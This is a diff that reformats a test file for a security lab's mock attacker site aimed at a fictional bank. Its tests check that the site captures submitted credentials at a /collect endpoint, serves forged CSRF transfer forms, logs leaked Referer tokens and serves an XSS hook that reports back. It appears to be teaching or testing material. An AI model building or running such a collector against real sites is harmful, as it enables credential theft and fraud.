@@ -6,7 +6,8 @@ const BANK = "http://localhost:3999";
 
 describe("the lab's attacker site", () => {
   let site: AttackerSite;
-  const get = (path: string, headers: Record<string, string> = {}) => fetch(`${site.url}${path}`, { headers, redirect: "manual" });
+  const get = (path: string, headers: Record<string, string> = {}) =>
+    fetch(`${site.url}${path}`, { headers, redirect: "manual" });
 
   before(async () => {
     site = await startAttackerSite({ port: 0, bankUrl: BANK });
@@ -38,9 +39,16 @@ describe("the lab's attacker site", () => {
     });
     assert.equal(form.status, 303);
     assert.equal(form.headers.get("location"), `${BANK}/dashboard`);
-    await fetch(`${site.url}/collect`, { method: "POST", body: JSON.stringify({ c: "x", n: 1 }), headers: { "Content-Type": "application/json" } });
+    await fetch(`${site.url}/collect`, {
+      method: "POST",
+      body: JSON.stringify({ c: "x", n: 1 }),
+      headers: { "Content-Type": "application/json" },
+    });
     await fetch(`${site.url}/collect`, { method: "POST", body: "plain" });
-    assert.deepEqual(site.captures().map((c) => c.data), [{ email: "alice@vaultline.test", password: "p" }, { c: "x", n: "1" }, { body: "plain" }]);
+    assert.deepEqual(
+      site.captures().map((c) => c.data),
+      [{ email: "alice@vaultline.test", password: "p" }, { c: "x", n: "1" }, { body: "plain" }],
+    );
   });
 
   it("refuses a body over 16 KB and records nothing", async () => {
@@ -56,13 +64,22 @@ describe("the lab's attacker site", () => {
     assert.match(forged, /enctype="multipart\/form-data"/);
     assert.match(forged, /name="amount" value="900.00"/);
     assert.equal((await get("/forge?action=https://elsewhere.example/x")).status, 400);
-    assert.deepEqual(site.captures().map((c) => [c.kind, c.data.action]), [["forged", "POST /signout"], ["forged", "POST /transfers"]]);
+    assert.deepEqual(
+      site.captures().map((c) => [c.kind, c.data.action]),
+      [
+        ["forged", "POST /signout"],
+        ["forged", "POST /transfers"],
+      ],
+    );
   });
 
   it("records a Referer from the bank on any page, and none without one", async () => {
     await get("/");
     await get("/anything", { Referer: `${BANK}/accounts/1?token=leaked` });
-    assert.deepEqual(site.captures().map((c) => [c.kind, c.path, c.referer]), [["referer", "/anything", `${BANK}/accounts/1?token=leaked`]]);
+    assert.deepEqual(
+      site.captures().map((c) => [c.kind, c.path, c.referer]),
+      [["referer", "/anything", `${BANK}/accounts/1?token=leaked`]],
+    );
   });
 
   it("serves the XSS hook, which reports to this site", async () => {
